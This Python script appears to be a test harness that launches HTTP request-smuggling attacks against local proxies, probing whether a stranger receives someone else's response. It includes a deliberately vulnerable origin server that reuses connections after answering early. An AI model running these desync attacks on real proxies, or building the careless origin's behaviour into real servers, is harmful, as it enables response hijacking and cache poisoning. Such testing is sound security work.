"""Attacks the origin behind each proxy: smuggling.py CARELESS_PORT 'NAME PORT ORIGIN'...

Each proxy marks the requests that it makes with `Via`. So a request without it, or a stranger's probe that gets the answer
to something else, is a finding. The probes follow each attack, on connections of their own: one while the attacker is
still connected, and one when it is gone.

That the attacks can succeed is shown with a careless origin behind Traffic Server. It answers early, keeps the
connection, and reads the rest of the body from it, as this library once did.
"""
import http.client, itertools, socket, sys, threading, time
from smuggling_vectors import CHUNKED, SMUGGLED, vectors

ROUNDS = 10  # of each attack with an early answer
PATIENCE = 0.2  # seconds that an attacker waits for an answer
SOON = 15  # seconds: the upper bound of every other wait, reached only on failure

WITH_LENGTH = b"Content-Length: %d"
EARLY = [  # the name of an attack with an early answer, the first attacker's fields, and what it sends of its body
    ("no body", WITH_LENGTH, b""),
    ("a part of the body", WITH_LENGTH, b"x" * 100),
    ("256 KiB of the body", WITH_LENGTH, b"x" * 256 * 1024),
    ("no chunk", CHUNKED, b""),
    ("a chunk", CHUNKED, b"1\r\nx\r\n"),
    ("Expect and no body", WITH_LENGTH, b"Expect: 100-continue", b""),
]

def connect(port):
    client = socket.create_connection(("127.0.0.1", port), SOON)
    client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return client

def send(client, data):
    try:
        client.sendall(data)
    except OSError:
        pass  # the proxy has refused the rest

def receive(client, seconds):
    """Returns the first response without its body, or what has come of it in time."""
    got, end = b"", time.monotonic() + seconds
    while b"\r\n\r\n" not in got:
        try:
            client.settimeout(max(0.001, end - time.monotonic()))
            some = client.recv(65536)
        except OSError:
            break
        if not some:
            break
        got += some
        if got.startswith(b"HTTP/1.1 100 ") and b"\r\n\r\n" in got:
            got = got.split(b"\r\n\r\n", 1)[1]
    return got.split(b"\r\n\r\n")[0]

def field(response, name):
    for line in response.split(b"\r\n")[1:]:
        if line.lower().startswith(name.lower() + b": "):
            return line.split(b": ", 1)[1]

class Proxy:
    def __init__(self, name, port, origin, host="h"):
        self.name, self.port, self.origin, self.host = name, int(port), origin, host.encode()
        self.findings, self.answers, self.reached, self.repeated = [], {}, 0, 0
        self.early = []
        self.numbers = itertools.count()

    def request(self, line, *fields, body=b""):
        lines = [line + b" HTTP/1.1", b"Host: " + self.host, *fields]
        return b"\r\n".join(lines) + b"\r\n\r\n" + body

    def probe(self, attack):
        """A stranger asks for something that nobody else asks for. What it gets must be the answer to that."""
        target = b"/probe/%d" % next(self.numbers)
        for _ in range(2):
            with connect(self.port) as stranger:
                stranger.sendall(self.request(b"GET " + target))
                response = receive(stranger, SOON)
            if field(response, b"X-Answers") or not response.startswith(b"HTTP/1.1 502"):
                break
            # The origin ended the connection while the proxy took it for this request.
            self.repeated += 1
        if field(response, b"X-Answers") != target:
            self.findings.append(f"{attack!r}: a stranger's {target} got {response!r}")

    def check_what_the_origin_saw(self, attack):
        client = http.client.HTTPConnection(self.origin, timeout=SOON)
        client.request("GET", "/seen")
        requests = client.getresponse().read().decode().splitlines()
        client.close()
        strange = [request for request in requests if request.endswith(" -")]
        if strange:
            self.findings.append(f"{attack!r}: the proxy did not make {strange}")
        self.reached += sum(not request.startswith("GET /probe/") for request in requests)

    def attack_alone(self, path):
        for attack, data in vectors(path):
            with connect(self.port) as attacker:
                send(attacker, data)
                response = receive(attacker, PATIENCE)
                self.probe(attack)
            self.probe(attack)
            self.check_what_the_origin_saw(attack)
            status = response[9:12].decode() if response.startswith(b"HTTP/1") else "no head"
            self.answers[status] = self.answers.get(status, 0) + 1

    def attack_with_early_answers(self, attack, *fields, sends=b""):
        """The first attacker gets an early answer, and leaves out as much of its body as the head of the second attacker's
        request has at the origin. If a proxy uses the connection again, the second attacker's body becomes a request.
        Returns the number of rounds in which something was found."""
        second = self.request(b"POST /early/second", b"Content-Length: %d" % len(SMUGGLED), body=SMUGGLED)
        with connect(self.port) as attacker:
            attacker.sendall(second)
            left_out = int(field(receive(attacker, SOON), b"X-Head"))
        fields = [each % (left_out + len(sends)) if b"%d" in each else each for each in fields]
        successes = 0
        for _ in range(ROUNDS):
            before = len(self.findings)
            with connect(self.port) as first, connect(self.port) as other:
                send(first, self.request(b"POST /early/first", *fields, body=sends))
                receive(first, PATIENCE)
                send(other, second)
                receive(other, PATIENCE)
                self.probe(attack)
            self.probe(attack)
            self.check_what_the_origin_saw(attack)
            successes += len(self.findings) > before
        return successes

    def attack(self):
        try:
            self.early = [self.attack_with_early_answers(*each, sends=sends) for *each, sends in EARLY]
            self.attack_alone(b"/early")
            self.attack_alone(b"/read")
        except Exception as error:
            self.findings.append(f"the attack ended with {error!r}")

class Careless:
    """An origin that answers a request at its head, and then reads its body, from any client."""

    def __init__(self, port):
        self.seen = []
        self.listener = socket.create_server(("127.0.0.1", port))
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            client, _ = self.listener.accept()
            threading.Thread(target=self.serve, args=[client.makefile("rwb")], daemon=True).start()

    def serve(self, stream):
        while line := stream.readline():
            head, length, via = line, 0, "-"
            while (each := stream.readline()) not in [b"\r\n", b""]:
                head += each
                name, value = each.decode().strip().split(": ", 1)
                length = int(value) if name.lower() == "content-length" else length
                via = "via" if name.lower() == "via" else via
            method, target = line.decode().split()[:2]
            body = "\n".join(self.seen) if target == "/seen" else "ok"
            if target == "/seen":
                self.seen = []
            else:
                self.seen.append(f"{method} {target} {via}")
            fields = f"Content-Length: {len(body)}\r\nX-Answers: {target}\r\nX-Head: {len(head) + 2}"
            stream.write(f"HTTP/1.1 200 OK\r\n{fields}\r\n\r\n{body}".encode())
            stream.flush()
            stream.read(length)

careless, *proxies = sys.argv[1:]
proxies = [Proxy(*proxy.split()) for proxy in proxies]
victim = Proxy("careless", proxies[-1].port, f"127.0.0.1:{careless}", host="careless")
Careless(int(careless))
smuggled = victim.attack_with_early_answers(*EARLY[0][:-1])
print(f"a careless origin behind {proxies[-1].name}: {smuggled} of {ROUNDS} rounds succeeded")

threads = [threading.Thread(target=proxy.attack) for proxy in proxies]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
for proxy in proxies:
    answers = ", ".join(f"{count} x {status}" for status, count in sorted(proxy.answers.items()))
    print(f"{proxy.name}: attackers got {answers}")
    early = ", ".join(f"{count} with {name}" for count, (name, *_) in zip(proxy.early, EARLY))
    print(f"    of {ROUNDS} rounds with an early answer succeeded: {early}")
    print(f"    {proxy.reached} of their requests reached the origin; {proxy.repeated} probes were repeated")
    print(f"    findings: {len(proxy.findings)}")
    for finding in proxy.findings[:20]:
        print(f"    {finding[:400]}")
sys.exit(int(any(proxy.findings for proxy in proxies) or smuggled == 0))
